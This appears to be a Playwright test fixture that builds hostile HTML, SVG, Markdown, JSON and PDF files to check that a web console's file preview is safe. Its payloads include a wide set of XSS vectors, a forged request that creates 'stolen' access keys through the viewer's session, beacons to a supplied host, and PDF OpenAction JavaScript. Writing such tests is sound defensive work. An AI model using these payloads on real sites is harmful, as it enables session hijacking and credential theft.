/** Files that do harm if a console shows them by their type: each tries to run, to call and to report. */

import type { Locator, Page } from 'playwright-core';
import { eventually } from '../harness/waiting.ts';

interface HostileFile {
  readonly name: string;
  readonly type: string;
  readonly content: string;
  /** Resolves when the console shows it. */
  readonly seen: (preview: Locator, page: Page) => Promise<unknown>;
}

/** Possible abuse by a script with the session of the viewer. */
const script = (host: string) => `document.title = 'ran'; top.document.title = 'ran';
fetch('/api/account/access-keys', { method: 'POST', body: JSON.stringify({ name: 'stolen' }),
headers: { 'content-type': 'application/json' } }); fetch('${host}/script'); new Image().src = '${host}/image';`;

/** Markup that runs a script and sends requests to `host` in every possible way. */
export const hostileTags = (host: string) => `<script>${script(host)}</script>
<img src="x:" onerror="${script(host)}"><img src="${host}/img"><svg onload="${script(host)}"></svg>
<iframe src="${host}/iframe"></iframe><iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>
<link rel="stylesheet" href="${host}/style"><style>@import "${host}/import"; body { background: url(${host}/url) }</style>
<meta http-equiv="refresh" content="0; url=${host}/refresh"><base href="${host}/"><object data="${host}/object"></object>
<form action="${host}/form"><button onclick="${script(host)}" autofocus onfocus="${script(host)}">press</button></form>
<a href="javascript:${script(host)}">here</a>`;

const markdown = (host: string) => `# A page of words

${hostileTags(host)}

[run](javascript:alert(1)) [run](JaVaScRiPt&colon;alert(1)) [run](data:text/html,<script>alert(1)</script>) [run][ref]
<javascript:alert(1)> [here](/api/account) ![a picture](${host}/picture) ![x](javascript:alert(1)) [the web](${host}/page)
![" onerror="document.title='ran'](${host}/alt "t" onload="document.title='ran'")

[ref]: vbscript:alert(1) "' onclick='alert(1)"

\`\`\`"><script>document.title='ran'</script>
fence
\`\`\`
`;

const svg = (
  host: string,
) => `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="${script(host)}">
<script>//<![CDATA[
${script(host)}//]]></script><image href="${host}/svg" width="9" height="9"/><rect width="40" height="30"/>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${host}/inner"/></foreignObject></svg>`;

/** When opened, it runs a script and goes to an address. */
const pdf = (host: string) => `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${host}/js"\\);this.submitForm\\("${host}/submit"\\);)
/Next<</S/URI/URI(${host}/uri)>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/AA<</O<</S/URI/URI(${host}/page-open)>>>>>>endobj
trailer<</Root 1 0 R>>
`;

export function hostileFiles(host: string): HostileFile[] {
  const words = (text: string) => (preview: Locator) => preview.locator('pre').getByText(text).waitFor();
  return [
    { name: 'page.html', type: 'text/html', content: hostileTags(host), seen: words('<script>') },
    {
      name: 'data.json',
      type: 'application/json',
      content: JSON.stringify({ a: hostileTags(host) }),
      seen: words('<script>'),
    },
    { name: 'feed.xml', type: 'text/xml', content: svg(host), seen: words('CDATA') },
    {
      name: 'drawing.svg',
      type: 'image/svg+xml',
      content: svg(host),
      seen: (preview) =>
        eventually('it is drawn', () =>
          preview
            .locator('img')
            .evaluate((image) => (image as unknown as { naturalWidth: number }).naturalWidth === 40),
        ),
    },
    {
      name: 'README.md',
      type: 'text/markdown',
      content: markdown(host),
      seen: (preview) =>
        preview.frameLocator('iframe').getByRole('heading', { name: 'A page of words' }).waitFor(),
    },
    {
      name: 'paper.pdf',
      type: 'application/pdf',
      content: pdf(host),
      seen: (_, page) =>
        eventually('the viewer shows it', async () =>
          page.frames().some((frame) => frame.url().startsWith('chrome-extension:')),
        ),
    },
    {
      name: 'fake.pdf',
      type: 'application/pdf',
      content: hostileTags(host),
      seen: (preview) => preview.locator('iframe').waitFor(),
    },
  ];
}
